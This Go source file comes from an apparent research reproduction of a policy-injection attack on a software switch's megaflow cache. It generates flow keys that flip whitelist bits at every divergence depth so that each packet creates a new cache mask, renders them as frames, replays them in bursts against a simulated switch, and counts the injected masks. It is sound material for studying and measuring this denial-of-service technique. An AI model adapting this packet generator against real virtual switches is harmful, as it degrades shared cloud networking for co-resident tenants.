package attack

import (
	"fmt"
	"net/netip"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// Keys generates the adversarial packet sequence as flow keys: exactly one
// key per divergence-depth combination. For the combination (d₁, …, d_k),
// field i carries the whitelisted value with bit d_i−1 flipped — it agrees
// with the whitelist on the first d_i−1 bits and diverges at bit d_i, so
// the trie gate for field i examines exactly d_i bits. The union of those
// per-field prefixes is a megaflow mask unique to the combination.
//
// Every key is a distinct microflow, so the sequence also churns the
// exact-match cache as a side effect, as the paper observes.
func (a *Attack) Keys() ([]flow.Key, error) {
	if err := a.Validate(); err != nil {
		return nil, err
	}
	src, dst, proto, _ := a.defaults()
	if a.v6Targeted() {
		// The covert stream must be IPv6 so the whitelist subtables'
		// eth_type matches; default template addresses are v4-mapped
		// otherwise.
		src = netip.MustParseAddr("2001:db8:ffff::66")
		dst = netip.MustParseAddr("2001:db8:ffff::2")
		if a.SrcIP.IsValid() {
			src = a.SrcIP
		}
		if a.DstIP.IsValid() {
			dst = a.DstIP
		}
	}
	template := flow.FiveTuple{
		Src: src, Dst: dst, Proto: proto,
		SrcPort: 40000, DstPort: 53211,
	}.Key(0)

	n := a.PredictedMasks()
	out := make([]flow.Key, 0, n)
	depths := make([]int, len(a.Fields)) // 0-based: depth d means flip bit d
	for {
		k := template
		for i, t := range a.Fields {
			f := flow.FieldByID(t.Field)
			v := t.Allow ^ (1 << uint(f.Bits-1-depths[i]))
			k.Set(t.Field, v)
		}
		out = append(out, k)
		// Odometer increment over the depth vector.
		i := 0
		for ; i < len(depths); i++ {
			depths[i]++
			if depths[i] < a.Fields[i].width() {
				break
			}
			depths[i] = 0
		}
		if i == len(depths) {
			break
		}
	}
	if len(out) != n {
		return nil, fmt.Errorf("attack: generated %d keys, predicted %d", len(out), n)
	}
	return out, nil
}

// Frames generates the covert stream as wire frames (Keys rendered through
// the packet builder). The frames are what the orchestrator replays at
// 1–2 Mbps.
func (a *Attack) Frames() ([][]byte, error) {
	keys, err := a.Keys()
	if err != nil {
		return nil, err
	}
	_, _, _, flen := a.defaults()
	out := make([][]byte, 0, len(keys))
	for _, k := range keys {
		f, err := pkt.BuildTuple(k.Tuple(), flen)
		if err != nil {
			return nil, fmt.Errorf("attack: building covert frame: %w", err)
		}
		out = append(out, f)
	}
	return out, nil
}

// Verification is the outcome of replaying the covert stream against a
// switch.
type Verification struct {
	Predicted int // masks the plan promised
	Injected  int // distinct masks in the megaflow cache afterwards
	Entries   int // megaflow entries afterwards
	Denied    int // covert packets denied (expected: all of them)
}

// Achieved reports whether the cache reached at least 90% of the
// predicted mask count. The tolerance is not slack in the attack: the
// prediction assumes a pristine classifier, while co-resident tenants'
// whitelists share the per-field tries and perturb a few divergence
// depths, merging a handful of combinations (measured ~3% for a /24
// victim whitelist).
func (v Verification) Achieved() bool { return v.Injected*10 >= v.Predicted*9 }

func (v Verification) String() string {
	return fmt.Sprintf("masks: %d injected / %d predicted; %d entries; %d covert packets denied",
		v.Injected, v.Predicted, v.Entries, v.Denied)
}

// burstLen is the NIC-sized burst the covert stream is replayed in.
const burstLen = 32

// ExecuteFrames replays the covert sequence once against sw at logical
// time now, as raw frame bursts through the switch's frame-first ingress
// at inPort — exactly what an attacker's NIC delivers — and reports what
// the cache looks like afterwards. Bursts are NIC-sized (32 frames), so
// the replay exercises the same vectorized extract + tier walk the victim
// measurement does. The attack ACL must already be installed (via the CMS
// or directly); ExecuteFrames only sends packets, as a tenant could.
func (a *Attack) ExecuteFrames(sw *dataplane.Switch, now uint64, inPort uint32) (Verification, error) {
	frames, err := a.Frames()
	if err != nil {
		return Verification{}, err
	}
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	denied := 0
	for start := 0; start < len(frames); start += burstLen {
		fb.Reset()
		for _, f := range frames[start:min(start+burstLen, len(frames))] {
			fb.Append(f, inPort)
		}
		out = sw.ProcessFrames(now, &fb, out)
		for _, d := range out[:fb.Len()] {
			if d.Verdict.Verdict == 0 { // flowtable.Deny
				denied++
			}
		}
	}
	return a.verification(sw, denied), nil
}

// verification snapshots the cache after a replay. Injected is the
// absolute mask population: pre-existing victim megaflows can share a
// mask shape with one of the covert combinations, so a delta would
// under-count.
func (a *Attack) verification(sw *dataplane.Switch, denied int) Verification {
	return Verification{
		Predicted: a.PredictedMasks(),
		Injected:  sw.Megaflow().NumMasks(),
		Entries:   sw.Megaflow().Len(),
		Denied:    denied,
	}
}
